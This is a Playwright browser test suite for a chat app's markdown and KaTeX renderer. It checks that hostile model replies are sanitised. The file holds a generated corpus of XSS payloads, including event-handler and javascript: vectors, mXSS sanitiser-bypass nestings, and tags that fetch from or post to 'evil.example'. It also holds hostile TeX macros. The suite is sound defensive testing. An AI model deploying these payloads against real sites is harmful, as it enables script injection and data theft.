"""The renderer against hostile markdown, in chromium: a generated corpus plus hand-written cases.

Rendered through static/js/render.js on the chat page (imported as a module), and on the
shared page as a visitor sees it. Tripwires: a dialog (the corpus calls alert), a request to
any other origin, ``window.__pwned``, an uncaught page error. And the DOM left behind is
audited: no scripts, styles, frames or forms, no event handlers or style attributes, nothing
that fetches from another origin, every link with rel=noopener.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from browser import chromium_browser
from playwright.sync_api import expect

pytestmark = pytest.mark.browser

EVIL = "https://evil.example"
MARKDOWN_PAYLOADS = [
    "[click](javascript:window.__pwned=1)",
    "[click](JaVaScRiPt:window.__pwned=1)",
    '<img src=x onerror="window.__pwned=1">',
    f"![tracker]({EVIL}/pixel.png)",
    f"<style>body{{background:url({EVIL}/style)}}</style>",
    f'<p style="background:url({EVIL}/attr)">styled</p>',
    f'<img srcset="{EVIL}/a.png 1x, {EVIL}/b.png 2x">',
    f'<video poster="{EVIL}/poster.png" src="{EVIL}/v.mp4"></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<form action="{EVIL}/steal"><input name=q><button formaction="{EVIL}/b">go</button></form>',
    f'<table background="{EVIL}/t.png"><tr><td background="{EVIL}/td.png">x</td></tr></table>',
    f'<frameset onload="window.__pwned=1"><frame src="{EVIL}/frame"></frameset>',
    f'<frameset><frame src="{EVIL}/f2"></frameset> and **text**',
    f'<iframe src="{EVIL}/iframe"></iframe>',
    f'<base href="{EVIL}/">',
    f'<link rel="stylesheet" href="{EVIL}/l.css">',
    f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    f'<svg><image href="{EVIL}/i.png"/><use href="{EVIL}/u.svg#x"/></svg>',
    f'<svg><rect width="9" height="9" fill="url({EVIL}/p.svg#p)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    '<details open ontoggle="window.__pwned=1">x</details>',
    '<a href="https://example.org/ok" target="_self" rel="opener">a fine link</a>',
    "```html\n<script>window.__pwned=1</script>\n```",
    "<script>window.__pwned=1</script>",
    '<div id="__pwned">clobber</div><form name="body"></form>',
]

AUDIT = """
(root) => {
  const findings = [];
  const offSite = (v) => {
    if (/^data:image\\//i.test(v.trim())) return false;
    try { return new URL(v, document.baseURI).origin !== location.origin; } catch { return true; }
  };
  for (const el of root.querySelectorAll("*")) {
    // The page's own controls (copy buttons) carry data-ui, which model output cannot: the
    // sanitiser drops every data attribute.
    if (el.closest("[data-ui]")) continue;
    const tag = el.nodeName.toLowerCase();
    if (["script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input",
         "button", "link", "meta", "base"].includes(tag)) findings.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      if (name.startsWith("on")) findings.push(`${tag}[${name}]`);
      if (["style", "srcset", "action", "formaction", "background", "poster"].includes(name))
        findings.push(`${tag}[${name}]`);
      if (["src", "xlink:href", "data"].includes(name) && offSite(attr.value))
        findings.push(`${tag}[${name}=${attr.value}]`);
      if (name === "href" && tag !== "a" && offSite(attr.value)) findings.push(`${tag}[href]`);
      const urlAttr = ["href", "src", "xlink:href", "data", "action", "formaction"].includes(name);
      if (urlAttr && /^\\s*(javascript|vbscript):/i.test(attr.value)) findings.push(`${tag}[${name}] js:`);
      if (/url\\s*\\(\\s*['"]?\\s*[^\\s'"#]/i.test(attr.value)) findings.push(`${tag}[${name}] url()`);
    }
    if (tag === "a" && el.hasAttribute("href")) {
      const rel = (el.getAttribute("rel") || "").split(/\\s+/);
      if (!rel.includes("noopener") || !rel.includes("noreferrer")) findings.push("a without rel");
    }
  }
  return findings;
}
"""

# One function text with the audit inlined: the page's CSP forbids eval(), rightly.
RENDER_ALL = """
async (payloads) => {
  const { renderMarkdown } = await import("/static/js/render.js");
  const auditFn = AUDIT;
  const host = document.createElement("section");
  document.body.append(host);
  const results = [];
  for (const payload of payloads) {
    const el = document.createElement("div");
    el.className = "body";
    host.append(el);
    let threw = null;
    try { renderMarkdown(el, payload); } catch (error) { threw = String(error); }
    results.push({ threw, findings: auditFn(el), empty: el.textContent === "" && !el.children.length });
  }
  // Let handlers that fire on load or error run (images decode, frames paint) before judging.
  await Promise.allSettled([...host.querySelectorAll("img")].map((img) => img.decode()));
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
  return { results, pwned: window.__pwned ?? null };
}
""".replace("AUDIT", AUDIT.strip())


def corpus_payloads(_page=None) -> list[str]:
    """Script and fetch vectors built from parts: every element that can run or load
    something, with every way of attaching script to it, every dangerous URL scheme in every
    URL attribute, and the nesting tricks behind known sanitiser bypasses (mXSS). Written for
    bchat (DOMPurify's own test corpus is not redistributed with it)."""
    js = "window.__pwned=1"
    tags = ["img src=x", "svg", "body", "video src=x", "audio src=x", "iframe", "details open",
            "marquee", "input autofocus", "select autofocus", "textarea autofocus", "object",
            "embed src=x", "a href=#", "math", "form", "frameset", "table", "div", "style",
            "image src=x", "isindex", "keygen autofocus", "source src=x", "track src=x"]
    handlers = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbegin",
                "onanimationstart", "onpageshow", "onstart"]
    payloads = [f"<{tag} {handler}={js}>" for tag in tags for handler in handlers]
    schemes = ["javascript:", "JaVaScRiPt:", "java\tscript:", "&#106;avascript:", " javascript:",
               "vbscript:", "data:text/html,<script>window.__pwned=1</script>"]
    url_attrs = [("a", "href"), ("iframe", "src"), ("form", "action"), ("button", "formaction"),
                 ("object", "data"), ("embed", "src"), ("svg><a", "xlink:href"),
                 ("math><maction actiontype=statusline", "href"), ("img", "src")]
    payloads += [f'<{tag} {attr}="{scheme}{js}">x' for tag, attr in url_attrs for scheme in schemes]
    payloads += [f"[link]({scheme}{js})" for scheme in schemes[:5]]
    payloads += [
        f"<svg><style><img src=x onerror={js}></style></svg>",
        f"<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror={js} src=1>\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
        f"<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
        f"<noembed><img title=\"</noembed><img src onerror={js}>\"></noembed>",
        f"<template><img src=x onerror={js}></template>",
        f"<xmp><img title=\"</xmp><img src onerror={js}>\">",
        f"<!--<img src=x onerror={js}>-->",
        f"<![CDATA[<img src=x onerror={js}>]]>",
        f"<svg><animate onbegin={js} attributeName=x dur=1s>",
        f"<svg><set attributeName=onload to={js} />",
        f"<a href=\"#\" onclick={js}>click</a>",
        f"<img src=x onerror={js}//",
        f"<<script>{js}//<</script>",
        f"<scr<script>ipt>{js}</script>",
        f"<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    ]
    return payloads


class Tripwires:
    def __init__(self, page, own_origin: str) -> None:
        self.dialogs: list[str] = []
        self.off_site: list[str] = []
        self.errors: list[str] = []
        own = urlsplit(own_origin).netloc

        def on_dialog(dialog):
            self.dialogs.append(dialog.message)
            dialog.dismiss()

        def on_request(request):
            parts = urlsplit(request.url)
            if parts.scheme in ("http", "https", "ws", "wss") and parts.netloc != own:
                self.off_site.append(request.url)

        page.on("dialog", on_dialog)
        page.on("request", on_request)
        page.on("pageerror", lambda error: self.errors.append(str(error)))

    def assert_quiet(self) -> None:
        assert self.dialogs == [], f"a payload ran script: {self.dialogs[:5]}"
        assert self.off_site == [], f"requests left the site: {self.off_site[:5]}"
        assert self.errors == [], f"uncaught page errors: {self.errors[:5]}"


def test_corpus_and_markdown_payloads_render_safely_on_the_chat_page(live_server):
    with chromium_browser() as browser:
        page = browser.new_context().new_page()
        tripwires = Tripwires(page, live_server.url)
        page.goto(live_server.url + "/")
        payloads = corpus_payloads(page)
        assert len(payloads) >= 250
        payloads += MARKDOWN_PAYLOADS
        outcome = page.evaluate(RENDER_ALL, payloads)
        results = outcome["results"]
        assert len(results) == len(payloads)
        threw = [(p[:60], r["threw"]) for p, r in zip(payloads, results, strict=True) if r["threw"]]
        assert threw == [], f"renderMarkdown threw: {threw[:5]}"
        unsafe = [(p[:80], r["findings"]) for p, r in zip(payloads, results, strict=True) if r["findings"]]
        assert unsafe == [], f"{len(unsafe)} payloads left something unsafe: {unsafe[:8]}"
        assert outcome["pwned"] is None
        tripwires.assert_quiet()
        # the frameset message (DOMPurify returns null for it) is shown as text, not lost
        index = payloads.index(MARKDOWN_PAYLOADS[12])
        assert not results[index]["empty"]


def test_a_bad_message_does_not_stop_the_conversation_rendering(live_server):
    with chromium_browser() as browser:
        page = browser.new_context().new_page()
        tripwires = Tripwires(page, live_server.url)
        page.goto(live_server.url + "/")
        conversation_id = page.evaluate("""async (contents) => {
          const post = (url, body) => fetch(url, {method: "POST", body: JSON.stringify(body),
            headers: {"Content-Type": "application/json"}}).then((r) => r.json());
          const conv = await post("/api/conversations", {});
          const path = `/api/conversations/${conv.id}/messages`;
          await post(path, {role: "user", content: "hello"});
          for (const content of contents) {
            await post(path, {role: "assistant", content, provenance: {engine: "browser"}});
          }
          return conv.id;
        }""", [MARKDOWN_PAYLOADS[11], "after the frameset: **still rendered**"])
        page.goto(f"{live_server.url}/c/{conversation_id}")
        replies = page.locator('[data-role="assistant"] .body')
        expect(replies).to_have_count(2)
        expect(replies.nth(1).locator("strong")).to_have_text("still rendered")
        expect(replies.nth(0)).to_contain_text("frameset")  # shown as text
        assert page.evaluate("window.__pwned ?? null") is None
        tripwires.assert_quiet()


def test_the_shared_page_renders_hostile_replies_safely(live_server):
    owner = live_server.session()
    owner.visit()
    with chromium_browser() as browser:
        page = browser.new_context().new_page()
        page.goto(live_server.url + "/")
        payloads = corpus_payloads(page) + MARKDOWN_PAYLOADS + ["the last reply: **bold**"]
        messages = [{"role": "assistant", "content": p} for p in payloads]
        status, conv = owner.json("POST", "/api/conversations/import", {
            "format": "bchat.conversation", "version": 1,
            "conversation": {"title": "hostile"}, "messages": messages,
        })
        assert status == 201, conv
        status, share = owner.json("POST", f"/api/conversations/{conv['id']}/share", {})
        assert status == 200

        visitor = browser.new_context().new_page()
        tripwires = Tripwires(visitor, live_server.url)
        visitor.goto(share["url"])
        bodies = visitor.locator("[data-markdown]")
        expect(bodies).to_have_count(len(payloads))
        expect(bodies.last.locator("strong")).to_have_text("bold")  # rendering reached the end
        visitor.evaluate("""() => Promise.allSettled([...document.images].map((img) => img.decode()))""")
        findings = visitor.evaluate(f"({AUDIT})(document.querySelector('[data-testid=messages]'))")
        assert findings == [], f"unsafe output on the shared page: {findings[:8]}"
        assert visitor.evaluate("window.__pwned ?? null") is None
        tripwires.assert_quiet()


MATH_REPLY = (
    "Euler's identity, $e^{i\\pi}+1=0$, ties five constants together.\n\n"
    "$$\\int_0^1 x^2\\,dx = \\frac13$$\n\n"
    "And that is the area under the parabola."
)
SIZES = {"desktop": (1366, 850), "phone": (390, 844)}
SHOTS = "/tmp/shots-assets"

MATH_LAYOUT = """async () => {
  await document.fonts.ready;
  const body = document.querySelector('[data-role=assistant] .body');
  const katexFonts = [...document.fonts].filter((f) => f.family.replaceAll('"', '').startsWith('KaTeX_'));
  const integral = [...body.querySelectorAll('.katex-html span')].find(
    (s) => s.children.length === 0 && s.textContent === '\\u222b');
  const textHeight = parseFloat(getComputedStyle(body.querySelector('p')).fontSize);
  const inline = body.querySelector('p .katex-html');
  const sup = [...inline.querySelectorAll('.msupsub span')].find(
    (s) => s.children.length === 0 && s.textContent === 'i\u03c0');
  const base = [...inline.querySelectorAll('.mord')].find((s) => s.textContent === 'e');
  return {
    html: body.querySelectorAll('.katex-html').length,
    mathml: body.querySelectorAll('.katex-mathml math').length,
    loadedFonts: katexFonts.filter((f) => f.status === 'loaded').map((f) => f.family.replaceAll('"', '')),
    integralHeight: integral ? integral.getBoundingClientRect().height : 0,
    integralFont: integral ? getComputedStyle(integral).fontFamily : '',
    textHeight,
    supBottom: sup.getBoundingClientRect().bottom,
    baseTop: base.getBoundingClientRect().top,
    baseBottom: base.getBoundingClientRect().bottom,
    styled: [...body.querySelectorAll('[style]')].filter((n) => !n.closest('.katex')).length,
  };
}"""


def seed_reply(page, content: str) -> str:
    return page.evaluate("""async (content) => {
      const post = (url, body) => fetch(url, {method: "POST", body: JSON.stringify(body),
        headers: {"Content-Type": "application/json"}}).then((r) => r.json());
      const conv = await post("/api/conversations", {});
      const path = `/api/conversations/${conv.id}/messages`;
      await post(path, {role: "user", content: "Two formulas, please"});
      await post(path, {role: "assistant", content, provenance: {engine: "browser"}});
      return conv.id;
    }""", content)


@pytest.mark.parametrize("size", SIZES)
def test_math_is_laid_out_by_katex_with_its_fonts_at_both_sizes(live_server, size):
    import os

    os.makedirs(SHOTS, exist_ok=True)
    width, height = SIZES[size]
    with chromium_browser() as browser:
        for scheme in ("light", "dark"):
            page = browser.new_context(viewport={"width": width, "height": height},
                                       color_scheme=scheme).new_page()
            tripwires = Tripwires(page, live_server.url)
            fetched: list[str] = []
            page.on("request", lambda request, fetched=fetched: fetched.append(request.url))
            refused: list[str] = []  # KaTeX's style markup must never reach the CSP
            page.on("console", lambda m, refused=refused: refused.append(m.text)
                    if "Content Security Policy" in m.text else None)
            page.goto(live_server.url + "/")
            expect(page.get_by_test_id("connection")).to_have_text("connected")
            # nothing of KaTeX on a page without math
            assert not [u for u in fetched if "katex" in u]
            conversation_id = seed_reply(page, MATH_REPLY)
            page.goto(f"{live_server.url}/c/{conversation_id}")
            body = page.locator('[data-role="assistant"] .body')
            expect(body.locator(".katex-html")).to_have_count(2)
            layout = page.evaluate(MATH_LAYOUT)
            assert layout["html"] == 2 and layout["mathml"] == 2  # MathML stays, for screen readers
            assert "KaTeX_Main" in layout["loadedFonts"] and "KaTeX_Math" in layout["loadedFonts"]
            assert "KaTeX_Size" in layout["integralFont"], layout
            # the display integral is a large operator, taller than the text around it
            assert layout["integralHeight"] > 1.5 * layout["textHeight"], layout
            # the exponent is raised: its glyph box ends well above its base's
            base_height = layout["baseBottom"] - layout["baseTop"]
            assert layout["supBottom"] < layout["baseBottom"] - base_height / 4, layout
            assert layout["styled"] == 0  # style survives only inside KaTeX's own output
            assert "\\int" not in body.inner_text() and "$" not in body.inner_text()
            # KaTeX and its fonts came by versioned URLs, cached for good like the modules
            katex = [u for u in fetched if "/vendor/katex/" in u]
            assert any(u.endswith(".css") or ".css?" in u for u in katex)
            assert [u for u in katex if "?v=" not in u] == []
            assert refused == [], refused[:2]
            page.screenshot(path=f"{SHOTS}/math-{size}-{scheme}.png")
            tripwires.assert_quiet()
            page.context.close()


HOSTILE_TEX = [
    "$\\href{javascript:window.__pwned=1}{click}$",
    "$\\url{https://evil.example/x}$",
    "$\\includegraphics{https://evil.example/i.png}$",
    "$\\htmlStyle{position:fixed;inset:0;background:red}{x}$",
    "$\\htmlClass{notice}{x}$ and $\\htmlData{x=1}{y}$",
    "$\\rule{900em}{900em}$",
    "$$\\raisebox{-400em}{x}\\kern{-400em}y$$",
    "$\\color{url(https://evil.example/c)}{x}$",
    "$\\def\\a{\\a\\a}\\a$",
    '<span class="math-slot-0">0</span> and <span class="katex"><span style="position:fixed">x</span></span>',
]


def test_hostile_tex_renders_contained(live_server):
    with chromium_browser() as browser:
        page = browser.new_context().new_page()
        tripwires = Tripwires(page, live_server.url)
        page.goto(live_server.url + "/")
        expect(page.get_by_test_id("connection")).to_have_text("connected")
        outcome = page.evaluate("""async (payloads) => {
          const { renderMarkdown } = await import("/static/js/render.js");
          const host = document.createElement("section");
          host.className = "messages";
          document.body.append(host);
          const boxes = payloads.map((payload) => {
            const el = document.createElement("div");
            el.className = "body";
            host.append(el);
            renderMarkdown(el, payload);
            return el;
          });
          // KaTeX loads on first need; the same elements are rendered again when it is here
          await new Promise((resolve) => {
            const check = () => (document.querySelector(".katex") ? resolve() : setTimeout(check, 20));
            check();
          });
          await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
          return boxes.map((el) => {
            const rect = el.getBoundingClientRect();
            const styles = [...el.querySelectorAll("[style]")].map((n) => n.getAttribute("style"));
            let widest = 0, tallest = 0;
            for (const n of el.querySelectorAll("*")) {
              const r = n.getBoundingClientRect();
              widest = Math.max(widest, r.width); tallest = Math.max(tallest, r.height);
            }
            return {
              links: el.querySelectorAll("a[href], img").length,
              fixed: [...el.querySelectorAll("*")].some((n) => getComputedStyle(n).position === "fixed"),
              styles, widest, tallest, text: el.textContent, height: rect.height,
              outsideKatex: [...el.querySelectorAll("[style]")].filter((n) => !n.closest(".katex")).length,
            };
          });
        }""", HOSTILE_TEX)
        for payload, result in zip(HOSTILE_TEX, outcome, strict=True):
            assert result["links"] == 0, (payload, result)
            assert not result["fixed"], (payload, result)
            assert result["outsideKatex"] == 0, (payload, result)
            assert not [s for s in result["styles"] if "url" in s or "fixed" in s], (payload, result)
            # sizes are capped (maxSize): nothing a formula draws reaches across the page
            assert result["widest"] < 3000 and result["tallest"] < 3000, (payload, result)
        # a slot class a message guesses is just text, never a formula
        assert "0" in outcome[-1]["text"] and not outcome[-1]["styles"]
        assert page.evaluate("window.__pwned ?? null") is None
        tripwires.assert_quiet()
